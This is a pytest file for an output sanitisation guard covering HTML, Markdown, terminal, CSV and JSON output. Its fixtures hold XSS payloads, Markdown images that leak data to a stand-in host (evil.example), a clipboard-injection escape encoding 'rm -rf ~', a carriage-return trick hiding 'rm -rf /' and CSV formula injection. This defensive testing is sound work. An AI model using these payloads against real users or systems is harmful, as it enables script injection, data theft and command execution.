"""C23 output sanitisation, text level: ``sanitize_text`` per output mode (own small fixtures)."""

from __future__ import annotations

import html.parser
import json

import pytest
from markdown_it import MarkdownIt

from maestro_gateway.guards.sanitize import SanitizeGuardConfig, sanitize_text

DEFAULT = SanitizeGuardConfig()
GOOD = SanitizeGuardConfig.model_validate(
    {
        "markdown": {
            "allowed_link_domains": ["good.example"],
            "allowed_image_domains": ["img.good.example"],
        }
    }
)
ANY = SanitizeGuardConfig.model_validate(
    {"markdown": {"allowed_link_domains": ["*"], "allowed_image_domains": ["*"]}}
)
DEFANG = GOOD.model_copy(
    update={"markdown": GOOD.markdown.model_copy(update={"on_disallowed": "defang"})}
)
RENDER = MarkdownIt("commonmark")


class _Active(html.parser.HTMLParser):
    """Collects what a browser would run or load from HTML (a small, strict test oracle)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.urls: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "meta",
            "svg",
            "math",
            "base",
            "link",
        }:
            self.found.append(tag)
        for name, value in attrs:
            v = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "style"):
                self.found.append(f"{tag}@{name}")
            if name in ("href", "src"):
                self.urls.append((tag, value or ""))
                if v.startswith(("javascript:", "data:", "vbscript:")):
                    self.found.append(f"{tag}@{name}={v[:11]}")


def active(markup: str) -> _Active:
    p = _Active()
    p.feed(markup)
    p.close()
    return p


HOSTILE_HTML = {
    "script": "<p>hi</p><script>alert(1)</script>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle r=1></svg>",
    "javascript href": '<a href="java&#x09;script:alert(1)">x</a>',
    "vbscript href": "<a href='vbscript:msgbox(1)'>x</a>",
    "data href": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style expression": '<div style="width: expression(alert(1))">x</div>'
    "<style>*{x:url(javascript:1)}</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form action": '<form action="javascript:alert(1)">'
    '<button formaction="javascript:x">go</button></form>',
    "mxss noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss svg style": '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "mxss math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "object data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
}


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
def test_hostile_html_is_neutralised(payload: str) -> None:
    """Scripts, handlers, dangerous URLs, frames, forms and mXSS nestings leave nothing active."""
    out, findings = sanitize_text(payload, "text/html", DEFAULT)
    assert active(out).found == []
    assert findings
    assert findings[0]["type"] == "html"


def test_html_links_get_rel_and_images_follow_the_domain_allowlist() -> None:
    """Links carry rel=noopener noreferrer; img src to a domain not allowlisted is dropped."""
    payload = (
        '<a href="https://good.example/a">a</a><img src="https://evil.example/p?d=S">'
        '<img src="https://img.good.example/i.png">'
    )
    out, _ = sanitize_text(payload, "text/html", GOOD)
    assert 'rel="noopener noreferrer"' in out
    assert active(out).urls == [
        ("a", "https://good.example/a"),
        ("img", "https://img.good.example/i.png"),
    ]


def test_every_src_follows_the_image_allowlist_not_the_link_one() -> None:
    """A src loads without a click: it needs an image domain even where links may go."""
    html = {
        "allowed_tags": ["a", "img", "video"],
        "allowed_attributes": {"a": ["href"], "img": ["src"], "video": ["src"]},
    }
    md = {"allowed_link_domains": ["evil.example"]}
    cfg = SanitizeGuardConfig.model_validate({"html": html, "markdown": md})
    payload = (
        '<a href="https://evil.example/a">a</a><img src="https://evil.example/p">'
        '<video src="https://evil.example/v"></video>'
    )
    out, _ = sanitize_text(payload, "text/html", cfg)
    assert active(out).urls == [("a", "https://evil.example/a")]
    assert sanitize_text("![p](https://evil.example/p)", "text/markdown", cfg)[0] == "p"


def test_allowlisted_html_is_left_byte_for_byte() -> None:
    """HTML that is already within the allowlist comes back unchanged, with no finding."""
    payload = '<p>Report <b>ready</b>: <a href="/r/1" rel="noopener noreferrer">open</a></p>'
    assert sanitize_text(payload, "text/html", DEFAULT) == (payload, [])
    hostile = payload.replace("<b>", "<b onclick=x>")
    assert sanitize_text(hostile, "text/html", DEFAULT)[0] == payload


def _rendered(markdown: str) -> _Active:
    return active(RENDER.render(markdown))


@pytest.mark.parametrize(
    "payload",
    [
        "Done ![x](https://evil.example/leak?d=SECRET) ok",
        "Done ![x][r]\n\n[r]: https://evil.example/leak?d=SECRET\n",
        "Done ![x][]\n\n[x]: <https://evil.example/leak?d=SECRET> 'title'\n",
        "> quoted\n> ![x](https://evil.example/leak?d=SECRET)\n",
        "- item\n\n  ![x](https://evil.example/leak?d=SECRET)\n",
        "[![x](https://evil.example/i.png)](https://evil.example/l)",
        "![x](//evil.example/leak) ![y](https://img.good.example\\@evil.example/p)",
        '<img src="https://evil.example/leak?d=SECRET">',
    ],
)
def test_markdown_exfiltration_images_are_removed(payload: str) -> None:
    """Images to domains not allowlisted (inline, reference, nested, raw HTML) do not render."""
    out, findings = sanitize_text(payload, "text/markdown", GOOD)
    assert not [url for _, url in _rendered(out).urls if "evil" in url or "SECRET" in url]
    assert findings


def test_markdown_links_reference_and_autolinks_to_other_domains_are_removed() -> None:
    """Inline, reference and autolinks to other domains lose their target; allowed ones stay."""
    payload = (
        "[ok](https://good.example/a) [bad](https://evil.example/x) [ref][r] "
        "<https://evil.example/y>\n\n"
        "[r]: https://evil.example/z\n"
    )
    out, findings = sanitize_text(payload, "text/markdown", GOOD)
    assert _rendered(out).urls == [("a", "https://good.example/a")]
    assert out.startswith("[ok](https://good.example/a) bad ref ")
    assert {f["type"] for f in findings} == {"link", "autolink", "reference"}


def test_bare_urls_to_other_domains_are_defanged() -> None:
    """A bare URL (linkified by GFM renderers) to a domain not allowlisted is defanged."""
    out, findings = sanitize_text(
        "see https://evil.example/x?d=1. or www.evil.example", "text/markdown", GOOD
    )
    assert "https://evil" not in out
    assert "www.evil" not in out
    assert "hxxps\\[:\\]//evil\\[.\\]example/x?d=1." in out
    assert [f["rule"] for f in findings] == ["disallowed-link-domain"] * 2


def test_allowed_domains_are_kept_unchanged() -> None:
    """Links and images to allowlisted domains, and their subdomains, are left as they are."""
    payload = (
        "[docs](https://good.example/a) ![c](https://img.good.example/c.png) "
        "[s](https://a.good.example)"
    )
    assert sanitize_text(payload, "text/markdown", GOOD) == (payload, [])
    assert sanitize_text(payload, "text/markdown", DEFAULT)[0] == "docs c s"


def test_unsafe_schemes_are_removed_whatever_the_domain_allowlist() -> None:
    """javascript:, data: and vbscript: targets go even when any domain is allowed."""
    payload = (
        "[a](javascript:alert(1)) ![b](data:image/png;base64,AA) [c](vbscript:x) "
        "[d](JAVA\tSCRIPT:x)"
    )
    out, findings = sanitize_text(payload, "text/markdown", ANY)
    assert _rendered(out).urls == []
    assert {f["rule"] for f in findings} == {"unsafe-scheme"}


def test_defang_mode_keeps_the_url_readable_but_inert() -> None:
    """on_disallowed: defang shows the target as hxxps[:]//host[.]tld text, not a link."""
    out, _ = sanitize_text("![x](https://evil.example/leak?d=S)", "text/markdown", DEFANG)
    assert _rendered(out).urls == []
    assert out == "x (image: hxxps\\[:\\]//evil\\[.\\]example/leak?d=S)"


def test_raw_html_in_markdown_goes_through_the_html_allowlist() -> None:
    """Inline tags and HTML blocks (also inside list items) lose handlers and unsafe tags."""
    payload = (
        "a <img src=x onerror=alert(1)> <b>b</b>\n\n"
        "- <div onclick=alert(1)>\n  c\n  </div>\n\n<script>alert(2)</script>\n"
    )
    out, _ = sanitize_text(payload, "text/markdown", DEFAULT)
    assert active(RENDER.render(out)).found == []
    assert "<b>b</b>" in out
    assert "- <div>\n  c\n  </div>" in out


def test_inert_code_blocks_flag_rewrites_the_fence_info() -> None:
    """With inert_code_blocks, a fenced block's language becomes text (not rendered live)."""
    payload = "```html\n<script>alert(1)</script>\n```\n"
    assert sanitize_text(payload, "text/markdown", DEFAULT) == (payload, [])
    inert = DEFAULT.model_copy(update={"inert_code_blocks": True})
    assert sanitize_text(payload, "text/markdown", inert)[0].startswith("```text\n<script>")


def test_benign_markdown_is_unchanged() -> None:
    """Markdown with emphasis, code, lists, relative links and allowed URLs is not modified."""
    payload = (
        "# T\n\n*a* `[x](https://evil.example)` [rel](/docs/a)\n\n- [ok](https://good.example)\n"
    )
    out, findings = sanitize_text(payload, "text/markdown", GOOD)
    assert out is payload
    assert findings == []
    assert sanitize_text(payload + "[x](https://evil.example)", "text/markdown", GOOD)[1]


def test_oversized_markdown_with_constructs_is_made_inert() -> None:
    """Markdown over 256 KiB holding brackets is escaped instead of parsed (bounded cost)."""
    payload = "![a](https://evil.example/p) " * 10_000
    out, findings = sanitize_text(payload, "text/markdown", GOOD)
    assert [f["rule"] for f in findings] == ["too-large"]
    assert _rendered(out[:300]).urls == []
    assert "evil.example" not in out


def test_sanitising_is_idempotent() -> None:
    """Sanitised output sanitised again does not change (no oscillating rewrites)."""
    for payload, mode in [
        *((p, "text/html") for p in HOSTILE_HTML.values()),
        ("[a ![b](https://evil.example/i)](https://evil.example) <i>x</i>", "text/markdown"),
    ]:
        once = sanitize_text(payload, mode, GOOD)[0]
        assert once != payload
        assert sanitize_text(once, mode, GOOD) == (once, [])


ANSI = [
    ("\x1b[1;31mred\x1b[0m", "red", "csi"),
    ("a\x1b[2J\x1b[H\x1b[10;5Hb\x1b[1A", "ab", "csi"),
    ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click", "osc-8"),
    ("\x1b]52;c;cm0gLXJmIH4=\x1b\\x", "x", "osc-52"),
    ("\x9b31mc1\x9bm", "c1", "csi"),
    ("\x1bPq#0;2;0;0;0\x1b\\s", "s", "dcs"),
    ("\x1b7x\x1b8\x1bc", "x", "esc"),
    ("safe\rrm -rf /", "safe\nrm -rf /", "cr"),
]


@pytest.mark.parametrize(("payload", "expected", "rule"), ANSI)
def test_terminal_escapes_are_stripped(payload: str, expected: str, rule: str) -> None:
    """Colours, cursor moves, OSC 8 links, OSC 52 clipboard writes and C1 controls are removed."""
    out, findings = sanitize_text(payload, "text/plain", DEFAULT)
    assert out == expected
    assert rule in {f["rule"] for f in findings}
    assert payload[findings[0]["start"]] in "\x1b\x9b\r"


@pytest.mark.parametrize("mode", ["text/markdown", "text/html", "text/csv", "application/json"])
def test_terminal_escapes_are_stripped_in_every_mode(mode: str) -> None:
    """Every mode strips raw terminal escapes before its own rules."""
    assert "\x1b" not in sanitize_text('"a\x1b]52;c;eA==\x07b"', mode, DEFAULT)[0]


def test_plain_text_without_escapes_is_returned_as_is() -> None:
    """Benign text with tabs, newlines and Unicode is the same object, with no finding."""
    for text in ("line\tone\r\nline two", "naïve café — ok\n"):
        out, findings = sanitize_text(text, "text/plain", DEFAULT)
        assert out is text
        assert findings == []
        assert sanitize_text(text + "\x1b[0m", "text/plain", DEFAULT)[0] == text


def test_csv_formula_cells_get_a_quote_prefix() -> None:
    """Cells starting with = + - @ (also quoted, after blanks or tabs) are prefixed; numbers not."""
    payload = '=1+1,"=HYPERLINK(""x"")",-5,+3e4, @SUM(A1),ok\n-2-3;\t=cmd|x,"-1.5"'
    out, findings = sanitize_text(payload, "text/csv", DEFAULT)
    assert out == '\'=1+1,"\'=HYPERLINK(""x"")",-5,+3e4, \'@SUM(A1),ok\n\'-2-3;\t\'=cmd|x,"-1.5"'
    assert len(findings) == 5
    off = DEFAULT.model_copy(update={"csv_formula": False})
    assert sanitize_text(payload, "text/csv", off)[0] == payload


def test_json_strings_lose_escaped_terminal_sequences() -> None:
    """``\\u001b`` escapes inside JSON strings are decoded and stripped; the rest is kept."""
    payload = '{"a": "x\\u001b[31mred\\u001b[0m",\n "b": "\\\\u001b literal", "c": 1}'
    out, findings = sanitize_text(payload, "application/json", DEFAULT)
    assert json.loads(out) == {"a": "xred", "b": "\\u001b literal", "c": 1}
    assert out.endswith(',\n "b": "\\\\u001b literal", "c": 1}')
    assert len(findings) == 2


def test_findings_have_the_documented_shape() -> None:
    """Each finding is {type, start, end, rule} with offsets into the text."""
    findings = sanitize_text("a\x1b[0mb", "text/plain", DEFAULT)[1]
    assert findings == [{"type": "terminal", "start": 1, "end": 5, "rule": "csi"}]
